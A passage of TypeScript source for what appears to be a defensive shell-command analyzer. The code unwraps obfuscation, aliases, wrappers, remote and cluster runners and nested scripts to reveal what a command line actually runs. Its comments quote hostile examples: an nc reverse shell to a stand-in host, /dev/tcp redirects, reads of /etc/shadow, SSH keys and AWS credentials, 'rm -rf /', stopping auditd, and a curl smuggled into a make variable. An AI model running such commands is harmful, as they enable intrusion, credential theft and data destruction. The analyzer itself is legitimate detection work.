      this.env.set(array, words[0] ?? '');
      this.step('variable', `read -a ${array} ← ${line}`);
      return;
    }
    const vars = names.length ? names : ['REPLY'];
    vars.forEach((v, k) => this.env.set(v, k === vars.length - 1 ? words.slice(k).join(' ') : (words[k] ?? '')));
    this.step('variable', `read ${vars.join(' ')} ← ${line}`);
  }

  /** `printf -v c '\x63\x75\x72\x6c'` sets c to what printf would print, when its format and arguments are known. */
  private printfInto(cmd: SimpleCommand): void {
    const { argv } = cmd;
    const name = argv[2];
    if (argv[1] !== '-v' || name === undefined || !/^[A-Za-z_][A-Za-z0-9_]*$/.test(name) || cmd.pipeFrom || cmd.pipeTo) return;
    const start = argv[3] === '--' ? 4 : 3;
    if (argv[start] === undefined || cmd.dynamic.some((d, i) => d && i >= start)) return;
    const value = printf(argv[start]!, argv.slice(start + 1)).slice(0, MAX_DECODED);
    this.env.set(name, value);
    this.step('variable', `printf -v ${name} → ${value}`);
  }

  private assign(node: Node, ctx: Ctx): { name: string; value: string } | undefined {
    const nameNode = node.childForFieldName('name');
    const valueNode = node.childForFieldName('value');
    if (!nameNode) return undefined;
    const name = nameNode.text.replace(/\[.*$/, '');
    let value = '';
    let dynamic = false;
    if (valueNode) {
      if (valueNode.type === 'array') {
        const parts = valueNode.namedChildren.flatMap((c) => this.fields(c, ctx));
        value = parts.map((p) => p.text).join(' ');
        dynamic = parts.some((p) => p.dynamic);
        if (!dynamic && this.arrays.size < 64) this.arrays.set(name, parts.map((p) => p.text));
      } else {
        const parts = this.pieces(valueNode, ctx, true);
        value = parts.map((p) => p.text).join('');
        dynamic = parts.some((p) => p.dynamic);
      }
    }
    const append = node.children.some((c) => c && !c.isNamed && c.text === '+=');
    if (this.view.assignments.length < 200) this.view.assignments.push({ name, value: dynamic ? (valueNode?.text ?? '') : value, origin: ctx.origin });
    // bash runs PROMPT_COMMAND before every prompt: its value is a script (its expansions happen then, so the raw text)
    if (name === 'PROMPT_COMMAND' && valueNode) this.script(dynamic ? valueNode.text.replace(/^(["'])([^]*)\1$/, '$2') : value, 'eval', ctx.depth + 1);
    // `PY=$(which python || which python3)`: the variable holds a program's path, and `$PY -c …` runs that program
    const found = dynamic && !append ? LOOKED_UP.exec((valueNode?.text ?? '').slice(0, 512))?.[1] : undefined;
    if (found !== undefined) {
      this.env.set(name, found);
      this.step('variable', `${name}=${found} (the program ${valueNode!.text.slice(0, 80)} finds)`);
    } else if (dynamic) this.env.delete(name);
    else {
      this.env.set(name, append ? (this.env.get(name) ?? '') + value : value);
      if (value && this.view.steps.length < 50) this.step('variable', `${name}=${value}`);
    }
    return { name, value };
  }

  private declaration(node: Node, ctx: Ctx): Span {
    const argv: string[] = [node.children[0]?.text ?? ''];
    const dyn: boolean[] = [false];
    const assignments: Array<{ name: string; value: string }> = [];
    for (const c of node.namedChildren) {
      if (c.type === 'variable_assignment') {
        const a = this.assign(c, ctx);
        if (a) {
          assignments.push(a);
          argv.push(`${a.name}=${a.value}`);
          dyn.push(false);
        }
      } else {
        for (const f of this.fields(c, ctx)) {
          argv.push(f.text);
          dyn.push(f.dynamic);
        }
      }
    }
    const cmd = this.emit(argv, dyn, assignments, ctx, node);
    return { first: cmd, last: cmd };
  }

  private command(node: Node, ctx: Ctx): Span {
    const argv: string[] = [];
    const dyn: boolean[] = [];
    const assignments: Array<{ name: string; value: string }> = [];
    const unknownValues = new Set<string>();
    const redirects: Redirect[] = [];
    let prev: Node | undefined;
    // by index, so a command with 60,000 words never materializes them all; then the words bash reads
    // after a redirection (`cat a 2>/dev/null b`) that the grammar put inside the redirection's node
    const count = node.namedChildCount;
    const extra = [...(ctx.afterRedirect ?? [])];
    const dash = ctx.dashBeforeHeredoc === true;
    if (ctx.afterRedirect || dash) ctx = { ...ctx, afterRedirect: undefined, dashBeforeHeredoc: undefined };
    for (let ci = 0; ci < count + extra.length; ci++) {
      const c = ci < count ? node.namedChild(ci) : extra[ci - count]!;
      if (!c) continue;
      if (c.type === 'variable_assignment') {
        // prefix assignments affect only this command's environment
        const nameNode = c.childForFieldName('name');
        const valueNode = c.childForFieldName('value');
        const parts = valueNode ? this.pieces(valueNode, ctx, true) : [];
        let value = parts.map((p) => p.text).join('');
        let dynamic = parts.some((p) => p.dynamic);
        // the same split after an assignment's expansion (`t=/x/$a$b/token`) leaves `b/token` as the command's name
        const next = node.namedChild(ci + 1);
        const split = next?.type === 'command_name' && next.startIndex === c.endIndex && value.endsWith('$') ? this.gluedVariable(next.namedChildren[0] ?? next, ctx) : undefined;
        if (split) {
          value = value.slice(0, -1) + split.text + split.rest.map((f) => f.text).join('');
          dynamic ||= split.dynamic || split.rest.some((f) => f.dynamic);
          ci++;
        }
        if (nameNode) assignments.push({ name: nameNode.text, value });
        if (nameNode && dynamic) unknownValues.add(nameNode.text);
        continue;
      }
      if (c.type === 'file_redirect' || c.type === 'herestring_redirect' || c.type === 'heredoc_redirect') {
        redirects.push(...this.redirect(c, ctx));
        if (extra.length < MAX_ARGS) extra.push(...this.wordsAfterDestination(c));
        continue;
      }
      if (c.type === 'comment' || this.fdWords.has(c.startIndex)) continue;
      if (argv.length >= MAX_ARGS) {
        this.view.truncated = true;
        break;
      }
      // After an expansion the grammar splits `$a$b/x` into `…$` and a separate word `b/x`
      // (`$IFS$9/x` and `h$@is$@tory` likewise): rejoin them and expand the second variable.
      const glued = prev && prev.endIndex === c.startIndex && argv.length > 0 && argv[argv.length - 1]!.endsWith('$') ? this.gluedVariable(c, ctx) : undefined;
      if (glued) {
        const k = argv.length - 1;
        argv[k] = argv[k]!.slice(0, -1) + glued.text;
        dyn[k] = dyn[k]! || glued.dynamic;
        for (const f of glued.rest) {
          argv.push(f.text);
          dyn.push(f.dynamic);
        }
        prev = c;
        continue;
      }
      // The grammar splits a word before a backquoted substitution (`/proc/`pidof sshd`/environ`):
      // nothing between the two nodes, so to the shell it is one word. Join the halves again.
      const adjoining = prev !== undefined && prev.endIndex === c.startIndex && argv.length > 0 && this.source[c.startIndex] === '`';
      prev = c;
      const target = c.type === 'command_name' ? (c.namedChildren[0] ?? c) : c;
      const fields = this.fields(target, ctx, argv.length === 0);
      for (let fi = 0; fi < fields.length; fi++) {
        const f = fields[fi]!;
        if (fi === 0 && adjoining) {
          argv[argv.length - 1] += f.text;
          dyn[dyn.length - 1] ||= f.dynamic;
          continue;
        }
        argv.push(f.text);
        dyn.push(f.dynamic);
      }
    }
    if (dash && argv.length > 0 && argv.length < MAX_ARGS) {
      argv.push('-');
      dyn.push(false);
    }
    if (argv.length === 0) {
      for (const a of assignments) {
        if (unknownValues.has(a.name)) this.env.delete(a.name);
        else this.env.set(a.name, a.value);
        if (this.view.assignments.length < 200) this.view.assignments.push({ ...a, origin: ctx.origin });
      }
      return {};
    }
    const cmd = this.emit(argv, dyn, assignments, { ...ctx, redirects: [...ctx.redirects, ...redirects] }, node);
    return { first: cmd, last: cmd };
  }

  /**
   * The variable whose `$` the grammar left on the word before `node` (`$a$b/x` read as `…$` and `b/x`): its value
   * and the rest of `node`'s first field, then `node`'s other fields. Undefined when `node` does not start with a name.
   */
  private gluedVariable(node: Node, ctx: Ctx): { text: string; dynamic: boolean; rest: Array<{ text: string; dynamic: boolean }> } | undefined {
    if (node.type !== 'word' && node.type !== 'number' && node.type !== 'concatenation') return undefined;
    const name = /^(?:\d|[@*]|[A-Za-z_][A-Za-z0-9_]*)/.exec(node.text)?.[0];
    if (name === undefined) return undefined;
    // positional parameters are empty at the top of the line and unknown inside a function (see expansion())
    const value = /^[\d@*]$/.test(name) ? (this.inFunction > 0 ? undefined : '') : this.env.get(name);
    const fields = this.fields(node, ctx);
    if (value !== undefined) this.step('variable', `$${name} → ${value}`);
    return { text: (value ?? '$' + name) + (fields[0]?.text.slice(name.length) ?? ''), dynamic: value === undefined || !!fields[0]?.dynamic, rest: fields.slice(1) };
  }

  /** What side-by-side backquoted substitutions print together (`` `echo ipt``echo ables` `` → `iptables`). */
  private adjoiningBackquotes(text: string, quoted: boolean, ctx: Ctx): Piece[] {
    const parts = text.slice(1, -1).split('``');
    // (every part is walked, so what each runs is seen even when another prints what is not known here; past 16 the
    // joined text is not known)
    let out: string | undefined = parts.length > 16 ? undefined : '';
    for (const part of parts.slice(0, 16)) {
      const span = this.script(part, 'substitution', ctx.depth + 1);
      const printed = span.last ? this.output(span.last) : undefined;
      out = printed === undefined || out === undefined ? undefined : out + printed.replace(/\n+$/, '');
    }
    if (out === undefined) return [{ text, split: false, dynamic: true, quoted }];
    this.step('command-substitution', `${text} → ${out}`);
    return [{ text: out, split: !quoted, dynamic: false, quoted }];
  }

  /** `pwsh -enc <base64 of UTF-16LE>` runs the text it encodes: read it as the `-Command` it is. */
  private powershellDecoded(words: string[], dynamic: readonly boolean[]): string[] {
    for (let k = 1; k < words.length - 1; k++) {
      const flag = words[k]!.toLowerCase();
      if (!(flag[0] === '-' || flag[0] === '/') || !ENCODED_COMMAND.includes(flag.slice(1)) || dynamic[k + 1]) continue;
      const text = decodeBase64Utf16(words[k + 1]!);
      if (text === undefined) return words;
      this.step('decode-base64', `PowerShell -EncodedCommand → ${text}`);
      return [...words.slice(0, k), '-Command', text, ...words.slice(k + 2)];
    }
    return words;
  }

  /** Turn an argv into a SimpleCommand: strip wrappers, record it, follow what it runs. */
  private emit(
    argv: string[],
    dyn: boolean[],
    assignments: Array<{ name: string; value: string }>,
    ctx: Ctx,
    node: Node | undefined,
    textOverride?: string,
  ): SimpleCommand | undefined {
    if (this.view.commands.length >= MAX_COMMANDS) {
      this.view.truncated = true;
      return undefined;
    }
    if (argv.length > MAX_ARGS) {
      this.view.truncated = true;
      argv = argv.slice(0, MAX_ARGS);
      dyn = dyn.slice(0, MAX_ARGS);
    }
    const wrappers: string[] = [];
    let elevated = this.runAsRoot;
    const alias = this.aliasMap.get(argv[0] ?? '');
    if (alias && !this.expandingAlias) {
      // `alias scan=nmap; scan -sV host` runs nmap (the first word is expanded once, as bash does)
      const head = alias.split(/[ \t]+/).filter(Boolean);
      this.step('variable', `alias ${argv[0]} → ${alias}`);
      argv = [...head, ...argv.slice(1)];
      dyn = [...head.map(() => false), ...dyn.slice(1)];
    }
    let words = argv;
    let dynamic = dyn;
    let gitDir: string | undefined;
    // `$SHELL -c …`, `$0 -c …`, `${0#-} -c …`: the running shell, whatever its name, runs the script
    if (dynamic[0] && RUNNING_SHELL.test(words[0] ?? '')) {
      this.step('variable', `${words[0]} → sh`);
      words = ['sh', ...words.slice(1)];
      dynamic = [false, ...dynamic.slice(1)];
    }
    ({ words, dynamic } = this.globbedProgram(words, dynamic));
    const emptied = dynamic[0] ? commandWithoutUnset(words[0] ?? '', (v) => this.assigned(v)) : undefined;
    if (emptied) {
      this.step('variable', `${words[0]} → ${emptied} (unset variables are empty)`);
      words = [emptied, ...words.slice(1)];
      dynamic = [false, ...dynamic.slice(1)];
    }
    let name = commandName(words[0] ?? '');
    for (let guard = 0; guard < 16; guard++) {
      if ((name === 'busybox' || this.runners.has(words[0]!)) && words.length > 1) {
        wrappers.push(name);
        words = words.slice(1);
        dynamic = dynamic.slice(1);
        name = commandName(words[0]!);
        continue;
      }
      const u = unwrap(name, words);
      if (!u) break;
      if (u.script !== undefined) {
        wrappers.push(name);
        this.step('unwrap', `${name} runs "${u.script}"`);
        this.script(u.script, 'eval', ctx.depth + 1);
        break;
      }
      if (u.argv.length === 0) break;
      // `xargs -a FILE cmd` takes its arguments from FILE, as `xargs cmd < FILE` does
      const argFile = name === 'xargs' ? optionValue(words.slice(0, u.offset), ['-a', '--arg-file']) ?? words.slice(1, u.offset).find((w) => w.startsWith('--arg-file='))?.slice(11) : undefined;
      if (argFile !== undefined) ctx = { ...ctx, redirects: [...ctx.redirects, { op: '<', target: argFile, dynamic: false }] };
      const hereInput = ctx.redirects.find((r) => (r.op === '<<' || r.op === '<<<') && !r.dynamic)?.target;
      if (name === 'xargs' && (ctx.pipeFrom || hereInput !== undefined)) {
        // `echo /etc/shadow | xargs cat` and `xargs cat <<< /etc/shadow` run `cat /etc/shadow`
        // from find or ls it is a list of names, which the view knows as globs: `find ~/.ssh | xargs cat` reads ~/.ssh/*
        const from = ctx.pipeFrom;
        const input = from ? this.output(from) ?? listedNames(from)?.join('\n') : hereInput;
        if (input !== undefined) {
          const built = xargsApply(words.slice(0, u.offset), u.argv, input);
          this.step('unwrap', `xargs builds: ${built.join(' ')}`);
          u.argv = built;
        }
      }
      wrappers.push(name);
      elevated ||= !!WRAPPERS[name]?.elevates;
      assignments = [...assignments, ...u.assignments];
      this.step('unwrap', `${name} → ${u.argv[0]}`);
      // words xargs appended from its input are static
      const before = dynamic;
      // (what a wrapper runs may be spelled as a glob as well: `sudo /u??/b??/f?nd …`)
      ({ words, dynamic } = this.globbedProgram(u.argv, u.argv.map((_, k) => before[u.offset + k] ?? false)));
      name = commandName(words[0]!);
    }
    if (POWERSHELLS.has(name.toLowerCase())) words = this.powershellDecoded(words, dynamic);
    if (name === 'git') {
      // settings from the environment or `--config-env`, written as the `-c key=value` words they amount to
      const fromEnv = gitConfig(['git', ...words.filter((w) => w.startsWith('--config-env='))], assignments);
      if (fromEnv.length) {
        this.step('variable', `git settings from the environment: ${fromEnv.map(([k, v]) => `${k}=${v}`).join(' ')}`);
        words = [...words, ...fromEnv.flatMap(([k, v]) => ['-c', `${k}=${v}`])];
        dynamic = [...dynamic, ...fromEnv.flatMap(() => [false, false])];
      }
      // `git -c alias.p=push p --mirror …` is `git push --mirror …`: an alias for another subcommand, expanded as git does
      const expanded = gitAliasExpanded(words, assignments);
      if (expanded) {
        this.step('unwrap', `git alias → ${expanded.argv.join(' ')}`);
        dynamic = [...dynamic.slice(0, expanded.at), ...new Array<boolean>(expanded.count).fill(false), ...dynamic.slice(expanded.at + 1)];
        words = expanded.argv;
      }
      const reordered = gitSubcommandFirst(words);
      if (reordered) {
        for (const r of reordered.repository) this.step('unwrap', `git ${r}`);
        // git works in the directory -C names, as if run there
        const dir = reordered.repository.find((r) => r.startsWith('-C '))?.slice(3);
        if (dir) gitDir = dir.startsWith('/') || dir.startsWith('~') || this.cwd === undefined ? dir : `${this.cwd.replace(/\/$/, '')}/${dir}`;
        dynamic = reordered.order.map((k) => dynamic[k] ?? false);
        words = reordered.order.map((k) => words[k]!);
      }
    }
    // `find … | tar czf x.tgz -T -`: the archive takes the names the finder lists, as xargs would
    if ((name === 'tar' || name === 'bsdtar' || name === 'cpio' || name === 'zip') && ctx.pipeFrom && (words.some((w, k) => (w === '-T' || w === '--files-from') && words[k + 1] === '-') || words.includes('--files-from=-') || (name === 'cpio' && words.some((w) => /^-[a-zA-Z]*o/.test(w))) || (name === 'zip' && words.includes('-@')))) {
      const names = listedNames(ctx.pipeFrom);
      if (names) {
        this.step('unwrap', `${name} archives the listed names: ${names.join(' ')}`);
        words = [...words, ...names];
        dynamic = [...dynamic, ...names.map(() => false)];
      }
    }
    // a client asked for its usage prints it and does nothing that its other words say
    if (asksForHelp(name, words)) {
      this.step('help', `${name} prints its usage: ${words.join(' ').slice(0, 120)}`);
      words = [words[0]!, '--help'];
      dynamic = [dynamic[0] ?? false, false];
    }
    const redirects = ctx.redirects;
    const stdinRedirect = redirects.find((r) => r.op === '<<' || r.op === '<<<');
    const cmd: SimpleCommand = {
      name,
      argv: words,
      dynamic,
      assignments,
      redirects,
      wrappers,
      elevated,
      background: ctx.background,
      origin: ctx.origin,
      depth: ctx.depth,
      text: textOverride ?? (node ? this.source.slice(node.startIndex, node.endIndex) : words.join(' ')),
    };
    if (stdinRedirect && !stdinRedirect.dynamic) cmd.stdin = stdinRedirect.target;
    if (ctx.pipeFrom) {
      cmd.pipeFrom = ctx.pipeFrom;
      ctx.pipeFrom.pipeTo ??= cmd;
      if (cmd.stdin === undefined) {
        const out = this.output(ctx.pipeFrom);
        if (out !== undefined) cmd.stdin = out;
      }
    }
    if (this.cwd !== undefined) cmd.cwd = this.cwd;
    if (gitDir !== undefined) cmd.cwd = gitDir;
    // `a=exp;b=ort;$a$b HTTPS_PROXY=…` and `export${IFS}HTTPS_PROXY=…` reach export through expansion,
    // so the parser saw no assignment in them: the words say what is declared
    if (DECLARERS.has(name)) {
      for (const w of words.slice(1)) {
        const eq = w.indexOf('=');
        if (eq <= 0 || !/^[A-Za-z_][A-Za-z0-9_]*$/.test(w.slice(0, eq)) || this.view.assignments.length >= 200) continue;
        const a = { name: w.slice(0, eq), value: w.slice(eq + 1), origin: ctx.origin };
        if (!this.view.assignments.some((x) => x.name === a.name && x.value === a.value)) this.view.assignments.push(a);
      }
    }
    if (name === 'cd' || name === 'pushd') this.changeDirectory(words, dynamic);
    this.view.commands.push(cmd);
    // what a root command runs (`sudo bash -c …`, `sudo rsync -e 'sh …'`) runs as root too
    const outer = this.runAsRoot;
    this.runAsRoot ||= cmd.elevated;
    try {
      this.follow(cmd, ctx);
    } finally {
      this.runAsRoot = outer;
    }
    this.recordWrite(cmd);
    return cmd;
  }

  /**
   * The words after a file redirection's destination, which the grammar keeps inside the redirection
   * (`2>/dev/null -exec grep … {} \;`) and bash reads as arguments of the command. Not a piece glued
   * to what precedes it (the grammar splits `/dev/tcp/$1/$2` after the second `$`), and not a number
   * right before `<` or `>`, which is the next redirection's descriptor (`>& /dev/tcp/h/p 0>&1`).
   */
  private wordsAfterDestination(r: Node): Node[] {
    if (r.type !== 'file_redirect') return [];
    const dest = r.childForFieldName('destination');
    if (!dest) return [];
    const out: Node[] = [];
    let end = dest.endIndex;
    for (const c of r.namedChildren) {
      if (!c || c.startIndex < dest.endIndex || c.type === 'file_descriptor') continue;
      const glued = c.startIndex === end;
      end = c.endIndex;
      if (glued || (c.type === 'number' && /[<>]/.test(this.source[c.endIndex] ?? ''))) continue;
      out.push(c);
    }
    return out;
  }

  /** A program named by a glob of its path (`/???/?at`, `/u??/b??/f?nd`) or by a lookup of it (`$(which etcdctl)`) as the one program it is. */
  private globbedProgram(words: string[], dynamic: boolean[]): { words: string[]; dynamic: boolean[] } {
    const globbed = commandOfGlob(words[0] ?? '');
    const looked = globbed ? undefined : commandOfLookup(words[0] ?? '');
    if (!globbed && !looked) return { words, dynamic };
    this.step(globbed ? 'glob' : 'command-substitution', `${words[0]} → ${globbed ?? looked}`);
    return { words: [(globbed ?? looked)!, ...words.slice(1)], dynamic: [false, ...dynamic.slice(1)] };
  }

  /** A call of a function defined in the line runs its body with the call's arguments: `_(){ nc $1 $2 -e sh; }; _ h 4444`. */
  private inlineFunction(cmd: SimpleCommand, depth: number): boolean {
    const fn = cmd.argv[0]!;
    const body = this.functionBodies.get(fn);
    if (body === undefined || this.inlining.has(fn) || this.inlined >= MAX_INLINED_CALLS) return false;
    this.inlined++;
    const text = withPositional(body, cmd.argv.slice(1));
    this.step('unwrap', `${fn} runs ${text}`);
    this.inlining.add(fn);
    try {
      // the body reads what the call is fed (`f(){ crontab "$@"; }; … | f -`)
      this.script(text, 'eval', depth, cmd.pipeFrom);
    } finally {
      this.inlining.delete(fn);
    }
    return true;
  }

  /** Follows `cd` with a static target so relative paths later in the line resolve (`cd ~/.aws && cat credentials`). */
  private changeDirectory(words: string[], dynamic: boolean[]): void {
    const target = words.slice(1).find((w) => !w.startsWith('-') || w === '-');
    if (target === undefined) this.cwd = '~';
    else if (target === '-' || dynamic[words.indexOf(target)]) this.cwd = undefined;
    else if (target.startsWith('/') || target.startsWith('~')) this.cwd = target;
    else this.cwd = this.cwd === undefined ? undefined : `${this.cwd}/${target}`;
  }

  /** Nested scripts a command runs: `sh -c`, `eval`, `ssh host cmd`, `find -exec`, one-liners, shells fed a script. */
  private follow(cmd: SimpleCommand, ctx: Ctx): void {
    const { name, argv } = cmd;
    const depth = ctx.depth + 1;
    if (this.inlineFunction(cmd, depth)) return;
    for (const script of commandVarValues(cmd.assignments)) {
      this.step('exec-arg', `${name}'s environment runs "${script}"`);
      this.script(script, 'exec-arg', depth);
    }
    const family = interpreterFamily(name);
    // a non-interactive bash sources BASH_ENV first (and sh, interactive, ENV): a file the line wrote is run so
    const startup = SHELLS.has(name) ? cmd.assignments.find((a) => (a.name === 'BASH_ENV' || a.name === 'ENV') && this.files.has(a.value)) : undefined;
    if (startup !== undefined) {
      this.step('nested-shell', `${name} sources ${startup.name}=${startup.value}, written earlier in the line`);
      this.script(this.files.get(startup.value)!, 'piped-to-shell', depth);
    }
    // `script -qc CMD /dev/null` (util-linux) and `script -q /dev/null CMD ARGS` (BSD, macOS) run CMD under a pseudo-terminal
    if (name === 'script') {
      const run = typescriptCommand(argv);
      if (run !== undefined) {
        this.step('nested-shell', `script runs ${run.slice(0, 200)}`);
        this.script(run, 'shell-c', depth);
        return;
      }
    }
    if (SHELLS.has(name) || name === 'su') {
      const script = name === 'su' ? optionValue(argv, ['-c', '--command']) : shellCommandString(argv);
      if (script !== undefined) {
        this.step('nested-shell', `${name} -c "${script}"`);
        // the words after the script are its $0, $1…: `find … -exec sh -c 'openssl enc -in "$1" …' _ {} \;`
        const at = argv.indexOf(script, 1);
        const zero = name === 'su' ? undefined : argv[at + 1];
        // zsh's own expansions (`${(L)x}`, `${:-word}`), written as bash reads them
        const body = name === 'zsh' ? zshAsBash(script) : script;
        if (body !== script) this.step('nested-shell', `zsh expansions read: ${body.slice(0, 200)}`);
        this.script(zero !== undefined ? withPositional(body, argv.slice(at + 2), zero) : body, 'shell-c', depth);
        return;
      }
      // `sh -s -- 203.0.113.8 4444 <<'EOF'`: with -s the words are the script's $1, $2…, and the script is stdin
      const positional = name === 'su' ? undefined : stdinScriptArgs(argv);
      if (positional !== undefined && scriptIn(cmd) !== undefined) {
        this.step('nested-shell', `${name} -s reads its script from stdin, with arguments ${positional.join(' ')}`);
        this.script(withPositional(scriptIn(cmd)!, positional), cmd.pipeFrom ? 'piped-to-shell' : 'heredoc-to-shell', depth);
        return;
      }
      const operand = name === 'su' ? undefined : firstOperand(argv.slice(1));
      if (operand && this.files.has(operand)) {
        this.step('nested-shell', `${name} runs ${operand}, written earlier in the line`);
        this.script(this.files.get(operand)!, 'piped-to-shell', depth);
        return;
      }
      // stdin redirected from a file the line wrote, or from a process substitution whose output is known (`sh < <(base64 -d <<< …)`)
      const fromFile = cmd.redirects.find((r) => r.op === '<' && this.files.has(r.target))?.target;
      const stdin = scriptIn(cmd) ?? (fromFile === undefined ? undefined : this.files.get(fromFile));
      if (!operand && stdin !== undefined && name !== 'su') {
        this.step('nested-shell', `${name} reads its script from stdin: "${stdin}"`);
        this.script(stdin, cmd.pipeFrom ? 'piped-to-shell' : 'heredoc-to-shell', depth);
      }
      return;
    }
    // `claude mcp add NAME -- CMD…`: the server's command, run by the agent each time it starts
    if (addsMcpServer(name, argv)) {
      this.persistedAfterDashes(argv, ctx, depth);
      return;
    }
    switch (name) {
      case 'read':
        this.readInto(cmd);
        return;
      // `mapfile -t a < <(printf '%s\n' rm -rf /)`: one array element per line read
      case 'mapfile':
      case 'readarray': {
        const array = argv.slice(1).filter((w) => !w.startsWith('-')).at(-1) ?? 'MAPFILE';
        // (from a file the line wrote, or a process substitution whose output is known)
        const from = cmd.redirects.find((r) => r.op === '<' && this.files.has(r.target))?.target;
        const input = cmd.stdin ?? (from === undefined ? undefined : this.files.get(from));
        if (input === undefined || cmd.pipeFrom || argv.some((w) => /^-[dnOsuC]/.test(w)) || !/^[A-Za-z_][A-Za-z0-9_]*$/.test(array)) return;
        const lines = input.split('\n', 4096);
        if (lines.at(-1) === '') lines.pop();
        if (this.arrays.size < 64) this.arrays.set(array, lines.map((l) => l.slice(0, 4096)));
        this.step('variable', `${name} ${array} ← ${lines.length} lines`);
        return;
      }
      // `set -- /tmp/f nc`: the line's positional parameters from here on ($1, $2…)
      case 'set': {
        if (argv[1] !== '--' || cmd.dynamic.some(Boolean)) return;
        argv.slice(2, 11).forEach((w, k) => this.env.set(String(k + 1), w));
        this.positional = argv.slice(2, 66);
        this.step('variable', `set -- ${argv.slice(2, 11).join(' ')}`);
        return;
      }
      case 'printf':
        this.printfInto(cmd);
        return;
      case 'eval': {
        const s = argv.slice(1).join(' ');
        if (s) {
          this.step('eval', s);
          this.script(s, 'eval', depth);
        }
        return;
      }
      case 'source':
      case '.': {
        const f = argv[1];
        if (f && this.files.has(f)) this.script(this.files.get(f)!, 'piped-to-shell', depth);
        else if ((f === '/dev/stdin' || f === '-') && scriptIn(cmd) !== undefined) this.script(scriptIn(cmd)!, 'piped-to-shell', depth);
        return;
      }
      case 'alias':
        for (const a of argv.slice(1)) {
          const eq = a.indexOf('=');
          if (eq <= 0) continue;
          const value = a.slice(eq + 1);
          this.view.aliases.push({ name: a.slice(0, eq), value });
          if (this.aliasMap.size < 64) this.aliasMap.set(a.slice(0, eq), value);
          this.expandingAlias = true;
          try {
            this.script(value, 'eval', depth);
          } finally {
            this.expandingAlias = false;
          }
        }
        return;
      case 'trap':
        if (argv[1] && argv[1] !== '-' && argv.length > 2) this.script(argv[1], 'eval', depth);
        return;
      // (Slurm's scrontab takes a crontab the same way)
      case 'crontab': case 'scrontab':
        if (scriptIn(cmd) !== undefined && (argv.length === 1 || argv.includes('-'))) this.persisted(scriptIn(cmd)!, depth);
        return;
      case 'tee':
        if (scriptIn(cmd) !== undefined && argv.slice(1).some((a) => !a.startsWith('-') && classifyPath(a)?.role === 'exec-location')) this.persisted(scriptIn(cmd)!, depth);
        return;
      // `… | SYSTEMD_EDITOR=tee systemctl edit cron.service`: tee writes the unit's drop-in from stdin
      case 'systemctl':
        if (argv.includes('edit') && scriptIn(cmd) !== undefined && editsWithTee(cmd.assignments)) this.persisted(scriptIn(cmd)!, depth);
        return;
      case 'at':
      case 'batch':
        if (scriptIn(cmd) !== undefined) this.script(scriptIn(cmd)!, 'heredoc-to-shell', depth);
        return;
      // a cluster job's script runs on the nodes the scheduler gives it: `sbatch --wrap 'cmd'`, or the script on its
      // stdin (`echo 'cmd' | qsub -N job`, `sbatch <<EOF`)
      case 'sbatch':
      case 'qsub':
      case 'bsub': {
        const job = (name === 'sbatch' ? optionValue(argv, ['--wrap']) ?? argv.find((w) => w.startsWith('--wrap='))?.slice(7) : undefined) ?? scriptIn(cmd);
        if (job !== undefined) {
          this.step('remote-command', `${name} runs "${job.slice(0, 200)}" on the cluster's nodes`);
          this.script(job, 'remote', depth);
        }
        return;
      }
      case 'ssh':
      case 'autossh': {
        this.optionScripts(cmd, depth);
        const remote = sshRemoteCommand(argv);
        if (remote) {
          this.step('remote-command', `ssh runs "${remote}"`);
          this.script(remote, 'remote', depth);
        } else if (scriptIn(cmd) !== undefined) this.script(scriptIn(cmd)!, 'remote', depth);
        return;
      }
      // a command run on another machine by its platform's own client: a phone or emulator (`adb shell …`), a one-off
      // dyno (`heroku run …`), a Fly machine (`fly ssh console -C …`), a booted iOS simulator (`xcrun simctl spawn booted …`),
      // z/OS UNIX (`zowe zos-uss issue ssh "…"`), an SAP instance's host (`sapcontrol … -function OSExecute "…"`)
      case 'adb':
      case 'heroku':
      case 'fly':
      case 'flyctl':
      case 'xcrun':
      case 'qm': case 'pct': case 'lxc': case 'incus': case 'lxc-attach': case 'multipass': case 'VBoxManage': case 'vboxmanage':
      case 'vagrant': case 'govc': case 'virsh': case 'balena': case 'mosquitto_pub': case 'zowe': case 'sapcontrol': case 'wwctl': {
        const remote = platformRemoteCommand(name, argv);
        if (remote) {
          this.step('remote-command', `${name} runs "${remote}" on the machine it reaches`);
          this.script(remote, 'remote', depth);
        }
        return;
      }
      // a phone system's console: `asterisk -rx '!cmd'`, `channel originate … application System …`, `fs_cli -x 'bgsystem …'`
      case 'asterisk':
      case 'fs_cli': {
        const line = pbxShellLine(name, argv);
        if (line) {
          this.step('nested-shell', `${name} runs "${line}" through the shell`);
          this.script(line, 'shell-c', depth);
        }
        return;
      }
      // Ruby run inside a Rails application: `bin/rails runner "…"` (Laravel's `php artisan tinker --execute` is read with php's own code)
      case 'rails': {
        const code = argv[1] === 'runner' || argv[1] === 'r' ? argv[2] : undefined;
        if (code !== undefined) this.inline('ruby', code, cmd, depth);
        return;
      }
      // the same command over many hosts: `pdsh -w web[01-20] 'cmd'`, `clush -b -w node[1-9] cmd`, `pssh -h hosts -i cmd`
      // Salt's shell module on the minions a target names: `salt '*' cmd.run 'systemctl stop auditd'`
      case 'salt':
      case 'salt-ssh': {
        // (salt-ssh's `-r`/`--raw-shell` runs its argument as a shell command on each host)
        const at = argv.findIndex((w) => w === 'cmd.run' || (name === 'salt-ssh' && (w === '-r' || w === '--raw' || w === '--raw-shell')));
        const remote = at > 0 ? argv[at + 1] : undefined;
        if (remote) {
          this.step('remote-command', `${name} runs "${remote}" on every minion it targets`);
          this.script(remote, 'remote', depth);
        }
        return;
      }
      case 'pdsh':
      case 'clush':
      case 'pssh':
      case 'parallel-ssh': {
        const remote = fanOutCommand(argv);
        if (remote) {
          this.step('remote-command', `${name} runs "${remote}" on every host`);
          this.script(remote, 'remote', depth);
        }
        return;
      }
      // a variable given to make is pasted into the recipes' shell lines: `make CC='gcc; curl …'` runs the curl
      case 'make':
      case 'gmake': {
        for (const w of argv.slice(1, MAX_ARGS)) {
          const value = /^[A-Za-z_][A-Za-z0-9_]*=(.+)$/s.exec(w)?.[1];
          if (value === undefined || !/[;|&`]|\$\(/.test(value)) continue;
          this.step('exec-arg', `make's ${w.slice(0, w.indexOf('='))} runs in its recipes: "${value}"`);
          this.script(value, 'exec-arg', depth);
        }
        // a makefile read from stdin (`printf 'x:\n\tcmd\n' | make -sf -`): its recipes run
        const stdinMakefile = argv.some((w, k) => w === '--file=-' || w === '--makefile=-' || (((/^-[a-zA-Z]*f$/.test(w)) || w === '--file' || w === '--makefile') && argv[k + 1] === '-'));
        const makefile = stdinMakefile ? scriptIn(cmd) : undefined;
